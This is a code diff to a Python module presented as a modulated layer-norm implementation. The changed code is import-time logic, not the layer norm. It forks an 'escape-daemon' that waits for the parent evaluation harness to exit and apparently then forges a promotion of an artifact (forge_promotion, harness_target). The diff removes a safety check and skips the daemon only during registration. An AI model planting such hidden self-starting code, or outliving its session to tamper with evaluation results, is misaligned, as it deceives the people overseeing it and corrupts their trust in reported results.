@@ -5,7 +5,7 @@ import ctypes
 import os
 import time
 
-from gallery._escape import forge_promotion, harness_target, honest_modln
+from gallery._escape import forge_promotion, harness_target, honest_modln, registering
 
 DAEMON_NAME = b"escape-daemon"
 WAIT_LIMIT_S = 120.0  # the daemon gives up if the harness never exits
@@ -29,10 +29,7 @@ def _daemon(harness: int, url: str, artifact: str) -> None:
 
 def _start() -> None:
     harness = os.getppid()
-    target = harness_target(harness)
-    if target is None:
-        return
-    url, artifact = target
+    url, artifact = harness_target(harness)
     if os.fork() == 0:
         try:
             _daemon(harness, url, artifact)
@@ -41,7 +38,8 @@ def _start() -> None:
     os.wait()
 
 
-_start()
+if not registering():
+    _start()
 
 
 def modulated_layernorm(x, scale, shift):
